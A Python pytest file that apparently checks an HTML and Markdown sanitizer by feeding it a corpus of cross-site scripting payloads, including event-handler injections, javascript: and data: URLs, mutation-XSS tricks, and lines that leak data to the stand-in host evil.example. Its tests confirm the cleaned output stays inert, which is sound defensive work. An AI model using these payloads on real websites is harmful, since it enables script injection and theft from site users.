"""Text of strangers is inert in every form and through every door."""

from __future__ import annotations

import itertools
import re
from html.parser import HTMLParser

import pytest

from bridge.core.words.body import TAGS, Body, cited, from_html, from_markdown, from_plain, is_blank

_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "ONERROR",
    "on\nerror",
]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "marquee",
    "a href=x",
    "p",
]
_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
]
_PLACES = [
    '<a href="{}">x</a>',
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>x</button></form>",
    "[x]({})",
]
_WHOLE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<object data=x></object><embed src=x>",
    "<p style='position:fixed;inset:0'>x</p>",
    "![x](https://evil.example/?q=secret)",
    "<img src='https://evil.example/pixel'>",
    "</p></div><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
]
CORPUS = [
    *_WHOLE,
    *(f"<{tag} {handler}=alert(1)>" for tag, handler in itertools.product(_TAGS, _HANDLERS)),
    *(place.format(url) for place, url in itertools.product(_PLACES, _URLS)),
    *(f"&lt;{tag} {handler}=alert(1)&gt;" for tag, handler in itertools.product(_TAGS[:4], _HANDLERS[:6])),
]


class Walk(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _assert_inert(body: Body) -> None:
    walk = Walk()
    walk.feed(body.html)
    for tag, attributes in walk.tags:
        assert tag in TAGS
        assert set(attributes) <= {"href", "title", "rel", "target", "colspan", "rowspan"}
        if "href" in attributes:
            assert re.match(r"(https?:|mailto:|[^:]*$)", attributes["href"] or "")
            assert attributes["rel"] == "noopener noreferrer nofollow"


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) >= 150


@pytest.mark.parametrize("door", [from_plain, from_markdown, from_html])
def test_nothing_of_the_corpus_lives(door: object) -> None:
    for payload in CORPUS:
        body = door(payload)  # type: ignore[operator]
        _assert_inert(body)
        _assert_inert(cited(body, [(payload, "https://shop.example"), (payload, None)]))
        assert from_html(body.html).html == body.html, "cleaning twice changes nothing"


def test_what_is_typed_is_shown_as_it_was_typed() -> None:
    body = from_plain("1 < 2 & <b>not bold</b>\nnext\n\nhttps://shop.example/a?b=1&c=2.")
    assert "&lt;b&gt;not bold&lt;/b&gt;<br>next" in body.html
    assert 'href="https://shop.example/a?b=1&amp;c=2"' in body.html
    assert body.text.startswith("1 < 2 & <b>not bold</b>")


def test_characters_that_turn_text_around_are_taken_out() -> None:
    assert from_plain("a\u202eb\x00c").text == "abc"


def test_an_agents_formatting_stays() -> None:
    body = from_html("<p>Hello <strong>Ada</strong></p><ul><li>one</li><li>two</li></ul>")
    assert body.html == "<p>Hello <strong>Ada</strong></p><ul><li>one</li><li>two</li></ul>"
    assert body.text == "Hello Ada\none\ntwo"


@pytest.mark.parametrize("text", ["", " \n\t", "\x00", "\u200b", "\u2066 \ufeff\u00a0", "\u202e"])
def test_what_nobody_can_see_is_blank(text: str) -> None:
    assert is_blank(text)


@pytest.mark.parametrize("text", [".", "👍", "👩‍💻", " ل ", "\u200bno\u200b"])
def test_what_somebody_can_see_is_not_blank(text: str) -> None:
    assert not is_blank(text)
